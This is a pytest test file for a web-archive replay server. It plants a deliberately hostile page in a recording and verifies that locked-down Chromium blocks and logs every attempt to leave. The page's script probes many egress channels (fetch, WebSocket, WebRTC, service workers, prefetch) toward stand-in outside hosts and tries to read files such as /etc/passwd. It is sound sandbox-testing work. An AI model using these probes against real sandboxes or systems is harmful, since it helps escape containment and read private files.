"""A page that tries every way out of a replay reaches nothing, and each attempt is in the session's log.

The outside is real: sockets on loopback that would note any connection or datagram. Chromium's own network log is read
as well, since it shows what no listener could: names that were looked up, sockets that were opened.
"""

from __future__ import annotations

import asyncio
import io
import json
import socket
import threading
from collections.abc import Iterator
from contextlib import suppress
from pathlib import Path
from typing import Any

import pytest
from playwright.async_api import Error, Page, async_playwright
from warcio.statusandheaders import StatusAndHeaders
from warcio.warcwriter import WARCWriter

from awe_author.browser.find import find_chromium
from awe_author.browser.launch import launch
from awe_author.replay.server import ReplayServer

pytestmark = pytest.mark.browser

HOME = "https://app.test"


class Outside:
    """A TCP and a UDP port that nothing may reach."""

    def __init__(self) -> None:
        self.reached: list[str] = []
        self._tcp = socket.create_server(("127.0.0.1", 0))
        self._udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        self._udp.bind(("127.0.0.1", 0))
        self.tcp_port: int = self._tcp.getsockname()[1]
        self.udp_port: int = self._udp.getsockname()[1]
        for listen in (self._accept, self._receive):
            threading.Thread(target=listen, daemon=True).start()

    def _accept(self) -> None:
        while True:
            try:
                connection, _ = self._tcp.accept()
            except OSError:
                return
            self.reached.append(f"tcp {connection.recv(200)!r}")
            connection.close()

    def _receive(self) -> None:
        while True:
            try:
                self.reached.append(f"udp {self._udp.recvfrom(2000)!r}")
            except OSError:
                return

    def close(self) -> None:
        self._tcp.close()
        self._udp.close()


@pytest.fixture
def outside() -> Iterator[Outside]:
    listener = Outside()
    yield listener
    listener.close()


# Each attempt names itself in the path that it asks for, so that it can be found in the log.
ATTEMPTS = """
const none = () => {};
const add = (name, attributes) => {
  const element = Object.assign(document.createElement(name), attributes);
  document.body.append(element);
  return element;
};
const at = way => OUT + '/' + way, named = way => 'https://' + way + '.outside.test/' + way;
const tries = {
  fetch: () => fetch(at('fetch')).catch(none),
  fetch_named: () => fetch(named('fetch')).catch(none),
  xhr: () => { const x = new XMLHttpRequest(); x.open('POST', at('xhr')); x.send('a') },
  beacon: () => navigator.sendBeacon(at('beacon'), 'a'),
  events: () => new EventSource(at('events')),
  socket: () => new WebSocket(at('socket').replace('http', 'ws')),
  socket_named: () => new WebSocket(named('socket').replace('http', 'ws')),
  image: () => add('img', {src: at('image')}),
  image_named: () => new Image().src = named('image'),
  script: () => add('script', {src: at('script')}),
  style: () => add('link', {rel: 'stylesheet', href: at('style')}),
  css_url: () => add('div', {style: `height: 9px; background: url(${at('css_url')})`}),
  font: () => new FontFace('x', `url(${at('font')})`).load().catch(none),
  video: () => add('video', {src: at('video')}),
  track: () => add('audio', {src: named('audio')}),
  frame: () => add('iframe', {src: at('frame')}),
  object: () => add('object', {data: at('object')}),
  embed: () => add('embed', {src: at('embed')}),
  module: () => import(at('module')).catch(none),
  worker: () => new Worker(URL.createObjectURL(new Blob([`importScripts('${at('worker_import')}')`]))).onerror = none,
  worker_module: () => new Worker(URL.createObjectURL(new Blob([`import('${at('worker_module')}')`],
    {type: 'text/javascript'})), {type: 'module'}),
  worker_fetch: () => new Worker(URL.createObjectURL(new Blob([`fetch('${at('worker_fetch')}')`]))),
  service_worker: () => navigator.serviceWorker.register('/sw.js').catch(none),
  form: () => { add('iframe', {name: 'sink'}); add('form', {action: at('form'), target: 'sink',
    method: 'post'}).submit() },
  refresh: () => add('iframe', {srcdoc: `<meta http-equiv=refresh content="0;url=${at('refresh')}">`}),
  redirect: () => fetch('/redirect', {mode: 'no-cors'}).catch(none),
  redirect_image: () => add('img', {src: '/redirect-image'}),
  prefetch: () => add('link', {rel: 'prefetch', href: at('prefetch')}),
  preload: () => add('link', {rel: 'preload', as: 'image', href: at('preload')}),
  dns_prefetch: () => add('link', {rel: 'dns-prefetch', href: named('dnsprefetch')}),
  preconnect: () => add('link', {rel: 'preconnect', href: named('preconnect')}),
  ping: () => add('a', {href: '#x', ping: at('ping')}).click(),
  webrtc: async () => {
    const peer = new RTCPeerConnection({iceServers: [{urls: 'stun:127.0.0.1:' + UDP}, {urls: 'stun:stun.outside.test'},
      {urls: 'turn:127.0.0.1:' + UDP + '?transport=tcp', username: 'u', credential: 'c'}]});
    peer.createDataChannel('x');
    await peer.setLocalDescription(await peer.createOffer());
  },
  webrtc_inner: () => { const peer = new (add('iframe',
    {}).contentWindow.RTCPeerConnection)({iceServers: [{urls: 'stun:127.0.0.1:' + UDP}]});
    peer.createDataChannel('x'); peer.createOffer().then(offer => peer.setLocalDescription(offer)) },
  webtransport: () => new WebTransport('https://127.0.0.1:' + UDP + '/webtransport').ready.catch(none),
  file_link: () => add('a', {href: 'file:///etc/hostname'}).click(),
  file_frame: () => add('iframe', {src: 'file:///etc/hosts'}),
  file_image: () => add('img', {src: 'file:///etc/image.png'}),
  file_fetch: () => fetch('file:///etc/passwd').catch(none),
  file_popup: () => open('file:///etc/group'),
  file_location: () => { try { location.href = 'file:///etc/fstab' } catch (refused) {} },
  popup: () => open(at('popup')),
  popup_named: () => open(named('popup')),
  speculation: () => add('script', {type: 'speculationrules', textContent:
    JSON.stringify({prefetch: [{source: 'list', urls: [at('speculation')]}], prerender: [{source: 'list',
      urls: ['/elsewhere']}]})}),
};
(async () => {
  for (const way of Object.keys(tries)) {
    try { await Promise.race([tries[way](), new Promise(done => setTimeout(done, 500))]) } catch (refused) {
      console.warn(way, String(refused)) }
  }
  window.tried = true;
})();
"""

DOWNLOAD = "add('a', {href: '/download', download: 'x'}).click()"
"""Comes last: redirected to another origin it becomes a navigation, which ends what the page is still at."""

SERVICE_WORKER = "self.oninstall = e => e.waitUntil(fetch('OUT/service_worker').catch(() => 0));"

BY_REQUEST = [
    "fetch", "xhr", "beacon", "events", "socket", "image", "script", "style", "css_url", "font", "video", "frame",
    "object", "embed", "module", "worker_import", "worker_module", "worker_fetch", "service_worker", "form",
    "refresh", "redirected", "redirected-image", "prefetch", "preload", "popup", "downloaded",
]  # fmt: skip
BY_NAME = [
    "fetch", "socket", "image", "audio", "popup",
]  # fmt: skip
FILES = [
    "hostname", "hosts", "image.png", "passwd", "group",
]  # fmt: skip


def archive(path: Path, outside: Outside) -> Path:
    """A recording of one hostile page with all that it needs from its own host."""
    out = f"http://127.0.0.1:{outside.tcp_port}"
    script = ATTEMPTS.replace("OUT +", f"'{out}' +").replace("UDP", str(outside.udp_port))
    hints = ("Link", "<https://hint.outside.test>; rel=dns-prefetch, <https://hint2.outside.test>; rel=preconnect")
    pages: list[tuple[str, str, list[tuple[str, str]], bytes]] = [
        (
            "/",
            "200 OK",
            [("Content-Type", "text/html"), hints],
            f"<!doctype html><body><script>{script}</script>".encode(),
        ),
        ("/sw.js", "200 OK", [("Content-Type", "text/javascript")], SERVICE_WORKER.replace("OUT", out).encode()),
        ("/redirect", "302 Found", [("Location", f"{out}/redirected")], b""),
        ("/redirect-image", "302 Found", [("Location", f"{out}/redirected-image")], b""),
        ("/download", "302 Found", [("Location", f"{out}/downloaded")], b""),
        ("/leave", "302 Found", [("Location", f"{out}/left")], b""),
    ]
    with path.open("wb") as file:
        writer = WARCWriter(file, gzip=True)
        for where, status, headers, body in pages:
            http = StatusAndHeaders(status, headers, protocol="HTTP/1.1")
            response = writer.create_warc_record(
                HOME + where, "response", payload=io.BytesIO(body), http_headers=http,
                warc_headers_dict={"WARC-Date": "2024-05-01T10:00:00Z"},
            )  # fmt: skip
            request = writer.create_warc_record(
                HOME + where,
                "request",
                http_headers=StatusAndHeaders(f"GET {where} HTTP/1.1", [("Host", "app.test")], is_http_request=True),
            )
            writer.write_request_response_pair(request, response)
    return path


def logging_chromium(folder: Path, net_log: Path) -> Path:
    """A program that is Chromium with its network log switched on."""
    wrapper = folder / "chromium"
    wrapper.write_text(f'#!/bin/sh\nexec "{find_chromium()}" --log-net-log="{net_log}" "$@"\n')
    wrapper.chmod(0o755)
    return wrapper


async def test_nothing_gets_out_and_everything_is_logged(tmp_path: Path, outside: Outside) -> None:
    net_log = tmp_path / "net.json"
    async with ReplayServer.open([archive(tmp_path / "hostile.warc.gz", outside)]) as server:
        program = logging_chromium(tmp_path, net_log)
        async with (
            async_playwright() as playwright,
            launch(playwright, server.proxy, server.authority.spki, lock_down=True, executable=program) as context,
        ):
            page = context.pages[0]
            await page.goto(HOME + "/")
            await page.wait_for_function("window.tried", polling=200)  # a page behind a popup has no animation frames
            await expected(server, lambda: set(missing(server)) <= {"downloaded"})
            await page.evaluate(DOWNLOAD)
            await expected(server, lambda: missing(server) == [])
            await navigations(page, outside)
        log = server.session.log.of("egress", "miss")
    assert outside.reached == []
    assert missing(server) == []
    assert any("/left" in event["url"] for event in log)
    assert any("/typed" in event["url"] for event in log)
    assert sockets_to(net_log) <= {server.proxy.removeprefix("http://")}
    assert datagrams(net_log) == 0
    assert looked_up(net_log) == []


async def navigations(page: Page, outside: Outside) -> None:
    """Ways out that take the whole page along: they end at an error or a plain server's 404."""
    for url in (f"{HOME}/leave", f"http://127.0.0.1:{outside.tcp_port}/typed"):
        with suppress(Error):
            answer = await page.goto(url)
            assert answer is None or answer.status == 404
    with pytest.raises(Error, match="ERR_BLOCKED_BY_ADMINISTRATOR"):
        await page.goto("file:///etc/hostname")


async def expected(server: ReplayServer, done: Any) -> None:
    """Wait up to 10 s."""
    for _ in range(100):
        if done():
            return
        await asyncio.sleep(0.1)


def missing(server: ReplayServer) -> list[str]:
    """The ways that are not in the log yet."""
    events = server.session.log.of("egress", "miss")
    urls = [event["url"] for event in events]
    kinds = {event.get("destination") for event in events}
    ways = [way for way in BY_REQUEST if not any(url.endswith(f"/{way}") and "127.0.0.1" in url for url in urls)]
    ways += [f"{way} by name" for way in BY_NAME if not any(f"{way}.outside.test" in url for url in urls)]
    ways += [name for name in FILES if not any(url.startswith("file:") and url.endswith(name) for url in urls)]
    ways += [
        name
        for name in ("dnsprefetch", "preconnect", "hint", "hint2")
        if not any(f"//{name}.outside.test" in u for u in urls)
    ]
    return ways + [
        kind for kind in ("webrtc", "webtransport", "dns-prefetch", "preconnect", "file") if kind not in kinds
    ]


def net_events(net_log: Path) -> tuple[dict[str, int], list[dict[str, Any]]]:
    """Names of event types, and the events, of Chromium's network log."""
    text = net_log.read_text()
    try:
        document = json.loads(text)
    except ValueError:
        document = json.loads(text.rstrip().rstrip(",") + "]}")
    return document["constants"]["logEventTypes"], document["events"]


def sockets_to(net_log: Path) -> set[str]:
    """Addresses to which TCP connections were opened."""
    types, events = net_events(net_log)
    found = [event["params"]["address"] for event in events
             if event["type"] == types["TCP_CONNECT_ATTEMPT"] and "address" in event.get("params", {})]  # fmt: skip
    assert found
    return set(found)


def datagrams(net_log: Path) -> int:
    types, events = net_events(net_log)
    return sum(event["type"] == types["UDP_BYTES_SENT"] for event in events)


def looked_up(net_log: Path) -> list[Any]:
    """Names that went to a resolver of the system or of Chromium itself."""
    types, events = net_events(net_log)
    asked = {
        types[name]
        for name in ("HOST_RESOLVER_SYSTEM_TASK", "HOST_RESOLVER_DNS_TASK", "HOST_RESOLVER_MANAGER_JOB")
        if name in types
    }
    assert asked
    return [event.get("params") for event in events if event["type"] in asked and event["phase"] == 1]
